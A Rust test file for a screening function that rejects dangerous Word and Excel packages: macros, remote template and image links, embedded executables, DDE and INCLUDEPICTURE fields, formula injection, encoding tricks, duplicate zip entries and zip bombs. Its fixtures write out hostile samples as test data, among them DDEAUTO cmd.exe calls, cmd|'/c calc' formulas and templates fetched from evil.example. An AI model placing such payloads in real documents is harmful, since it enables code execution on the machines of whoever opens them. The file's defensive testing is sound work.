//! Macros, links and embedded files in every way they can be written.

use std::io::Write as _;

use zip::{ZipWriter, write::SimpleFileOptions};

use super::*;

const MAIN: &str = "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn zipped(parts: &[(&str, &str)]) -> Vec<u8> {
    packed(&parts.iter().map(|(name, text)| (*name, text.as_bytes())).collect::<Vec<_>>())
}

fn packed(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn typed(types: &str, more: &[(&str, &str)]) -> Result<Kind, Unfit> {
    let types = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types>{types}</Types>");
    look(&zipped(&[&[("[Content_Types].xml", types.as_str()), ("word/document.xml", "<x/>")], more].concat()))
}

fn related(line: &str) -> Result<Kind, Unfit> {
    let lines = format!("<Relationships xmlns=\"x\">{line}</Relationships>");
    typed(MAIN, &[("word/_rels/settings.xml.rels", &lines)])
}

#[test]
fn macros_are_known_however_they_are_written() {
    assert_eq!(typed(MAIN, &[]), Ok(Kind::Docx));
    let refs = "<!-- wordprocessingml --><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEn&#97;bled.main+xml\"/>";
    assert_eq!(typed(refs, &[]), Err(Unfit::Macro));
    let project = "<Override PartName='/word/x.bin' ContentType = 'application/vnd.ms-office.vba&#x50;roject'/>";
    assert_eq!(typed(&format!("{MAIN}{project}"), &[("word/x.bin", "vba")]), Err(Unfit::Macro));
    let padded = format!("<!-- wordprocessingml {} -->{MAIN}{project}", "x".repeat(1024 * 1024));
    assert_eq!(typed(&padded, &[("word/x.bin", "vba")]), Err(Unfit::Macro));
    let larger = format!("{MAIN}<!-- {} -->", "x".repeat(2 * 1024 * 1024));
    assert_eq!(typed(&larger, &[]), Err(Unfit::Damaged), "never cut off and taken");
    let kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
    assert_eq!(related(&format!("<Relationship Id='r1' Type='{kind}' Target='x.bin'/>")), Err(Unfit::Macro));
    let comment = "<!-- wordprocessingml -->";
    assert_eq!(typed(comment, &[]), Err(Unfit::OtherPackage), "a comment is no type");
}

#[test]
fn nothing_is_fetched_from_elsewhere() {
    let template = format!("{OFFICE}/attachedTemplate");
    for line in [
        format!(
            "<Relationship Id=\"r\" Type=\"{template}\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
        ),
        format!("<Relationship Id='r' Type='{template}' Target='http://evil.example/t.dotm' TargetMode='External'/>"),
        format!("<Relationship Id=\"r\" Type=\"{template}\" Target=\"\\\\evil\\s\\t.dotm\" TargetMode=\"External\"/>"),
        format!("<Relationship Id=\"r\" Type=\"{template}\" Target=\"file://evil/s/t.dotm\" TargetMode=\"External\"/>"),
        format!(
            "<Relationship\nId=\"r\" Type=\"{template}\"\nTarget = \"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
        ),
        format!(
            "<Relationship Id=\"r\" Type=\"{template}\" Target=\"&#104;ttp://evil.example/t.dotm\" TargetMode=\"&#69;xternal\"/>"
        ),
        format!(
            "<p:Relationship xmlns:p=\"x\" Id=\"r\" Type=\"{OFFICE}/image\" Target=\"http://evil.example/p.png\" TargetMode=\"External\"/>"
        ),
        format!(
            "<Relationship Id=\"r\" Type=\"{OFFICE}/hyperlink\" Target=\"file:///C:/x.exe\" TargetMode=\"External\"/>"
        ),
        format!(
            "<Relationship Id=\"r\" Type=\"{OFFICE}/hyperlink\" Target=\"java&#9;script:alert(1)\" TargetMode=\"External\"/>"
        ),
        format!("<Relationship Id=\"r\" Type=\"{OFFICE}/image\" Target=\"//evil/p.png\"/>"),
    ] {
        assert_eq!(related(&line), Err(Unfit::Linked), "{line}");
    }
    let ole = format!(
        "<Relationship Id='r' Type='{OFFICE}/oleObject' Target='http://evil.example/a' TargetMode='External'/>"
    );
    assert_eq!(related(&ole), Err(Unfit::Embedded));
    for target in ["http://www.example.org/?a=1&amp;b=2", "HTTPS://www.example.org", "mailto:a@example.org", "#_Toc1"] {
        let line = format!("<Relationship Id='r' Type='{OFFICE}/hyperlink' Target='{target}' TargetMode='External'/>");
        assert_eq!(related(&line), Ok(Kind::Docx), "{target}");
    }
    let inside = format!("<Relationship Id='r' Type='{OFFICE}/image' Target='media/image1.png'/>");
    assert_eq!(related(&inside), Ok(Kind::Docx));
}

#[test]
fn nothing_hides_in_it() {
    for name in
        ["word/embeddings/oleObject1.bin", "word/a.scr", "word/b.vbs", "word/c.hta", "word/d.LNK", "oleObject9.bin"]
    {
        assert_eq!(typed(MAIN, &[(name, "MZ")]), Err(Unfit::Embedded), "{name}");
    }
    for name in ["../../../tmp/x", "WORD/document.xml"] {
        assert_eq!(typed(MAIN, &[(name, "x")]), Err(Unfit::Damaged), "{name}");
    }
    for name in ["xl/printerSettings/printerSettings1.bin", "word/media/image1.svg", "word/fonts/font1.odttf"] {
        assert_eq!(typed(MAIN, &[(name, "x")]), Ok(Kind::Docx), "{name}");
    }
}

#[test]
fn what_two_programs_would_read_differently_is_refused() {
    // The second of two parts of one name, made by renaming in the bytes.
    let types = format!("<Types>{MAIN}</Types>");
    let other = "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>";
    let mut bytes =
        zipped(&[("[Content_Types].xxx", other), ("[Content_Types].xml", &types), ("word/document.xml", "<x/>")]);
    while let Some(at) = bytes.windows(19).position(|w| w == b"[Content_Types].xxx") {
        bytes[at + 16..at + 19].copy_from_slice(b"xml");
    }
    assert!(look(&bytes).is_err());
    for types in [
        format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?><Types>{MAIN}</Types>"),
        format!("<!DOCTYPE x [<!ENTITY a \"b\">]><Types>{MAIN}</Types>"),
        format!("<Types>{MAIN}<Override ContentType=\"&a;\"/></Types>"),
        format!("<Types>{MAIN}<Override ContentType=\"a\" x:ContentType=\"b\"/></Types>"),
        format!("<Types>{MAIN}<Override{}/></Types>", " a=\"\"".repeat(100_000)),
    ] {
        let bytes = zipped(&[("[Content_Types].xml", &types), ("word/document.xml", "<x/>")]);
        assert_eq!(look(&bytes), Err(Unfit::Damaged), "{}", types.chars().take(80).collect::<String>());
    }
}

fn document(body: &str) -> Vec<u8> {
    let types = format!("<Types>{MAIN}</Types>");
    let text = format!("<w:document xmlns:w=\"w\"><w:body>{body}</w:body></w:document>");
    zipped(&[("[Content_Types].xml", types.as_str()), ("word/document.xml", &text)])
}

/// A field whose code is split over runs as `codes`.
fn field(codes: &[&str]) -> String {
    let codes: Vec<_> = codes.iter().map(|c| format!("<w:r><w:instrText>{c}</w:instrText></w:r>")).collect();
    let codes = codes.concat();
    format!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{codes}<w:r><w:fldChar w:fldCharType='separate'/></w:r>\
         <w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
    )
}

#[test]
fn fields_that_fetch_or_run_are_refused_however_they_are_written() {
    let nested = format!(
        "<w:fldChar w:fldCharType='begin'/>{}<w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='end'/>",
        field(&[" SEQ x "])
    );
    for body in [
        field(&[" DDEAUTO c:\\windows\\cmd.exe \"/k calc\" "]),
        field(&[" DD", "EAU", "TO cmd x"]),
        field(&[" &#68;DE cmd x"]),
        field(&["<![CDATA[INCLUDEPICTURE]]> \"http://evil.example/p.png\""]),
        "<w:fldSimple w:instr=\" MACROBUTTON Run x\"/>".to_owned(),
        "<w:fldSimple w:instr=' &#x4C;INK Excel.Sheet.12 x'><w:r/></w:fldSimple>".to_owned(),
        "<w:instrText>INCLUDETEXT x</w:instrText>".to_owned(),
        nested,
    ] {
        assert_eq!(look(&document(&body)), Err(Unfit::Active), "{body}");
        assert_eq!(look_at_template(&document(&body)), Err(Unfit::Active), "{body}");
    }
    let page = field(&[" PAGE ", " \\* MERGEFORMAT"]);
    assert_eq!(look_at_template(&document(&page)), Ok(Kind::Docx));
    let contents = field(&[" TOC \\o \"1-3\" "]);
    assert_eq!(look(&document(&contents)), Ok(Kind::Docx), "a report has a contents list");
    assert_eq!(look_at_template(&document(&contents)), Err(Unfit::Active));
    // In another part than the text itself.
    let types = format!("<Types>{MAIN}</Types>");
    let foot = field(&["DDE a b"]);
    let hidden = [("[Content_Types].xml", types.as_str()), ("word/document.xml", "<x/>"), ("word/a/foot.dat", &foot)];
    assert_eq!(look(&zipped(&hidden)), Err(Unfit::Active));
}

#[test]
fn a_part_in_another_encoding_hides_no_fields() {
    let foot = format!("<?xml version=\"1.0\"?><w:ftr xmlns:w=\"w\">{}</w:ftr>", field(&[" DDEAUTO cmd x "]));
    let header = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";
    let types = format!("<Types>{MAIN}<Override PartName=\"/word/a/foot.dat\" ContentType=\"{header}\"/></Types>");
    let with = |name: &str, bytes: &[u8]| {
        look(&packed(&[("[Content_Types].xml", types.as_bytes()), ("word/document.xml", b"<x/>"), (name, bytes)]))
    };
    let wide = |text: &str, width: usize, little: bool| -> Vec<u8> {
        let bytes = text.chars().flat_map(|c| {
            let all = u32::from(c).to_be_bytes();
            let unit = &all[4 - width..];
            if little { unit.iter().rev().copied().collect::<Vec<_>>() } else { unit.to_vec() }
        });
        bytes.collect()
    };
    for (width, little) in [(2, true), (2, false), (4, true), (4, false)] {
        for before in ["\u{FEFF}", "", "\u{FEFF} \r\n"] {
            let bytes = wide(&format!("{before}{foot}"), width, little);
            assert_eq!(with("word/a/foot.dat", &bytes), Err(Unfit::Damaged), "{width} {little} {before:?}");
        }
    }
    for encoding in ["UTF-7", "utf-16", "IBM037"] {
        let said = format!("<?xml version='1.0' encoding='{encoding}'?><w:ftr/>");
        assert_eq!(with("word/a/foot.dat", said.as_bytes()), Err(Unfit::Damaged), "{encoding}");
    }
    assert_eq!(with("word/a/foot.dat", b"\x4C\x6F\xA7\x94\x93"), Err(Unfit::Damaged));
    // What a report really holds.
    let printer = wide("\\\\打印\\HP 1020", 2, true);
    for (name, bytes) in [
        ("word/media/image1.png", &b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR"[..]),
        ("word/media/image2.jpeg", b"\xFF\xD8\xFF\xE0\0\x10JFIF\0"),
        ("word/media/image3.emf", b"\x01\0\0\0\x6C\0\0\0"),
        ("word/fonts/font1.odttf", b"\xFF\xFE\x13\x9A\x07\0"),
        ("xl/printerSettings/printerSettings1.bin", &printer),
        ("word/footer1.xml", b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:ftr/>"),
    ] {
        assert_eq!(with(name, bytes), Ok(Kind::Docx), "{name}");
    }
}

#[test]
fn formulas_that_fetch_or_run_are_refused() {
    let types = "<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>";
    let book = |cell: &str, more: &[(&str, &str)]| {
        let sheet = format!("<worksheet><sheetData><row><c r=\"A1\">{cell}</c></row></sheetData></worksheet>");
        let parts = [
            ("[Content_Types].xml", types),
            ("xl/workbook.xml", "<workbook/>"),
            ("xl/worksheets/sheet1.xml", sheet.as_str()),
        ];
        look(&zipped(&[&parts[..], more].concat()))
    };
    assert_eq!(book("<f>SUM(A1:A3)</f><v>cmd|'/c calc'!A0</v>", &[]), Ok(Kind::Xlsx), "a text is no formula");
    for cell in ["<f>cmd|&#39;/c calc&#39;!A0</f>", "<f>_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)</f>"] {
        assert_eq!(book(cell, &[]), Err(Unfit::Active), "{cell}");
    }
    let names =
        "<workbook><definedNames><definedName name=\"a\">cmd|'/c calc'!A0</definedName></definedNames></workbook>";
    assert_eq!(book("", &[("xl/other.xml", names)]), Err(Unfit::Active));
    for cell in [
        "<f>'\\\\evil\\s\\[x.xlsx]a'!A1</f>",
        "<f>'file:///c:/[x.xlsx]a'!A1</f>",
        "<f>[1]a!A1</f>",
        "<f>&#91;1]a!A1</f>",
    ] {
        assert_eq!(book(cell, &[]), Err(Unfit::Active), "{cell}");
    }
    assert_eq!(book("<f>SUM(Table1[col])+Table1[[#This Row],[a]]</f>", &[]), Ok(Kind::Xlsx));
    assert_eq!(book("", &[("customUI/customUI14.xml", "<x/>")]), Err(Unfit::Macro));
    for year in ["2006", "2007"] {
        let kind = format!("http://schemas.microsoft.com/office/{year}/relationships/ui/extensibility");
        let line = format!("<Relationships><Relationship Id='r' Type='{kind}' Target='ui/x.xml'/></Relationships>");
        assert_eq!(book("", &[("_rels/.rels", &line), ("ui/x.xml", "<x/>")]), Err(Unfit::Macro), "{year}");
    }
    for part in ["xl/externalLinks/externalLink1.xml", "xl/queryTables/queryTable1.xml", "xl/connections.xml"] {
        assert_eq!(book("", &[(part, "<x/>")]), Err(Unfit::Linked), "{part}");
    }
}

#[test]
fn a_package_that_unpacks_to_far_too_much_is_refused() {
    let types = format!("<Types>{MAIN}</Types>");
    let blanks = " ".repeat(3 << 20);
    let bomb =
        zipped(&[("[Content_Types].xml", types.as_str()), ("word/document.xml", "<x/>"), ("word/b.xml", &blanks)]);
    assert!(bomb.len() < 100_000);
    assert_eq!(look(&bomb), Err(Unfit::Bomb));
    assert!(Unfit::Bomb.told("材料.docx").to_string().contains("解开后的内容异常大"));
}
